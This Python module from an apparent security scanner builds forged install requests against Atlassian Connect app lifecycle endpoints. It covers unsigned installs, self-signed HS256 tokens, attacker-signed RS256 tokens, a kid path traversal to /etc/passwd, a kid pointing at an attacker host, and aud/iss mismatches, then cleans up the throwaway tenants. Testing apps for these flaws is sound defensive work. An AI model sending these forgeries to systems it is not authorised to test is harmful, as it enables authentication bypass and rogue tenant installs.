"""Lifecycle install attacks: unsigned, self-signed and forged installs with throwaway tenants."""

from __future__ import annotations

import json
import secrets
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass, replace
from typing import TYPE_CHECKING

from connectsec.connect_jwt import InstallKeyPair, forge_install_token, mint_hs256, sign_hs256_raw
from connectsec.connect_jwt.qsh import query_string_hash
from connectsec.model import Endpoint, HttpExchange, HttpRequestSpec, Inventory

if TYPE_CHECKING:
    from connectsec.checks.base import Send

PURPOSE = "R5:install"
CLEANUP = "R5:install-cleanup"


@dataclass(frozen=True)
class InstallAttack:
    """One way to forge an install; `build` returns the Authorization header value (None: unsigned)."""

    id: str
    title: str
    build: Callable[[InstallAttackInput], str | None]
    forged_token: bool = True
    """False for the unsigned install (no token at all)."""


@dataclass(frozen=True)
class InstallAttackInput:
    """A throwaway tenant and where its install goes."""

    client_key: str
    shared_secret: str
    url: str
    base_url: str
    key: InstallKeyPair

    def claims(self, **changes: object) -> dict[str, object]:
        now = int(time.time())
        claims: dict[str, object] = {
            "iss": self.client_key,
            "aud": self.base_url,
            "iat": now,
            "exp": now + 180,
            "qsh": query_string_hash("POST", self.url, self.base_url),
        }
        claims.update(changes)
        return {k: v for k, v in claims.items() if v is not None}


def _rs256(given: InstallAttackInput, kid: str, **changes: object) -> str:
    token = forge_install_token(
        given.key,
        client_key=given.client_key,
        base_url_aud=given.base_url,
        url=given.url,
        base_url=given.base_url,
        kid=kid,
    )
    if not changes:
        return f"JWT {token}"
    from connectsec.connect_jwt import sign_rs256_raw

    header = {"alg": "RS256", "typ": "JWT", "kid": kid}
    return f"JWT {sign_rs256_raw(header, given.claims(**changes), given.key.private_key)}"


INSTALL_ATTACKS: tuple[InstallAttack, ...] = (
    InstallAttack("unsigned", "install without any token", lambda g: None, forged_token=False),
    InstallAttack(
        "hs256-self-signed",
        "HS256 token signed with the install payload's own sharedSecret",
        lambda g: (
            "JWT "
            + sign_hs256_raw({"alg": "HS256", "typ": "JWT"}, g.claims(aud=None), g.shared_secret.encode())
        ),
    ),
    InstallAttack(
        "rs256-unknown-kid",
        "RS256 token signed with an attacker key, unknown kid",
        lambda g: _rs256(g, g.key.kid),
    ),
    InstallAttack(
        "kid-traversal",
        "RS256 attacker token with kid ../../../../etc/passwd",
        lambda g: _rs256(g, "../../../../etc/passwd"),
    ),
    InstallAttack(
        "kid-url",
        "RS256 attacker token with kid pointing at another host",
        lambda g: _rs256(g, "https://keys.attacker.test/k"),
    ),
    InstallAttack(
        "aud-mismatch",
        "RS256 attacker token for another app's baseUrl",
        lambda g: _rs256(g, g.key.kid, aud="https://other-app.example"),
    ),
    InstallAttack(
        "aud-prefix",
        "RS256 attacker token whose aud merely starts with the baseUrl",
        lambda g: _rs256(g, g.key.kid, aud=g.base_url.rstrip("/") + ".attacker.test"),
    ),
    InstallAttack(
        "iss-mismatch",
        "RS256 attacker token whose iss is not the body's clientKey",
        lambda g: _rs256(g, g.key.kid, iss=str(uuid.uuid4())),
    ),
)


def fake_tenant() -> tuple[str, str, str]:
    """A random clientKey, sharedSecret and tenant baseUrl that belong to nobody."""
    name = f"connectsec-{secrets.token_hex(6)}"
    return str(uuid.uuid4()), secrets.token_urlsafe(32), f"https://{name}.atlassian.net"


def install_body(
    inventory: Inventory, client_key: str, shared_secret: str, tenant_url: str, event: str
) -> bytes:
    """The lifecycle payload the product would send."""
    return json.dumps(
        {
            "key": inventory.app_key,
            "clientKey": client_key,
            "sharedSecret": shared_secret,
            "baseUrl": tenant_url,
            "displayUrl": tenant_url,
            "productType": "jira",
            "description": "connectsec throwaway tenant",
            "eventType": event,
        }
    ).encode()


def install_requests(inventory: Inventory, installed: Endpoint, key: InstallKeyPair) -> list[HttpRequestSpec]:
    """One request per install attack, each for a fresh throwaway tenant."""
    specs = []
    for attack in INSTALL_ATTACKS:
        client_key, secret, tenant_url = fake_tenant()
        given = InstallAttackInput(client_key, secret, installed.url, inventory.base_url, key)
        headers: tuple[tuple[str, str], ...] = (("Content-Type", "application/json"),)
        authorization = attack.build(given)
        if authorization:
            headers += (("Authorization", authorization),)
        body = install_body(inventory, client_key, secret, tenant_url, "installed")
        specs.append(
            HttpRequestSpec("POST", installed.url, installed, headers, body, purpose=f"{PURPOSE}:{attack.id}")
        )
    return specs


def cleanup_request(
    accepted: HttpRequestSpec, uninstalled: Endpoint, inventory: Inventory, key: InstallKeyPair
) -> HttpRequestSpec:
    """`uninstalled` for a throwaway tenant an install attack registered, forged the same way."""
    payload = json.loads(accepted.body or b"{}")
    attack_id = accepted.purpose.rsplit(":", 1)[-1]
    attack = next(a for a in INSTALL_ATTACKS if a.id == attack_id)
    given = InstallAttackInput(
        payload["clientKey"], payload["sharedSecret"], uninstalled.url, inventory.base_url, key
    )
    headers: tuple[tuple[str, str], ...] = (("Content-Type", "application/json"),)
    authorization = attack.build(given)
    if authorization:
        headers += (("Authorization", authorization),)
    body = install_body(
        inventory, payload["clientKey"], payload["sharedSecret"], payload["baseUrl"], "uninstalled"
    )
    return replace(
        HttpRequestSpec("POST", uninstalled.url, uninstalled, headers, body),
        purpose=f"{CLEANUP}:{attack_id}",
    )


def legacy_uninstall_request(
    accepted: HttpRequestSpec, uninstalled: Endpoint, inventory: Inventory
) -> HttpRequestSpec:
    """`uninstalled` as the legacy protocol sends it: HS256 with the throwaway tenant's own secret."""
    payload = json.loads(accepted.body or b"{}")
    token = mint_hs256(
        payload["sharedSecret"],
        issuer=payload["clientKey"],
        method="POST",
        url=uninstalled.url,
        base_url=inventory.base_url,
    )
    headers = (("Content-Type", "application/json"), ("Authorization", f"JWT {token}"))
    body = install_body(
        inventory, payload["clientKey"], payload["sharedSecret"], payload["baseUrl"], "uninstalled"
    )
    attack_id = accepted.purpose.rsplit(":", 1)[-1]
    return HttpRequestSpec(
        "POST", uninstalled.url, uninstalled, headers, body, purpose=f"{CLEANUP}:{attack_id}"
    )


async def uninstall(
    accepted: list[HttpRequestSpec],
    uninstalled: Endpoint,
    inventory: Inventory,
    key: InstallKeyPair,
    send: Send,
) -> list[HttpExchange]:
    """Remove throwaway tenants: the same forgery first, then the legacy HS256 uninstall if needed."""
    first = await send([cleanup_request(a, uninstalled, inventory, key) for a in accepted])
    left = [
        a for a, x in zip(accepted, first, strict=True) if x.final is None or not 200 <= x.final.status < 300
    ]
    second = await send([legacy_uninstall_request(a, uninstalled, inventory) for a in left]) if left else []
    return [*first, *second]
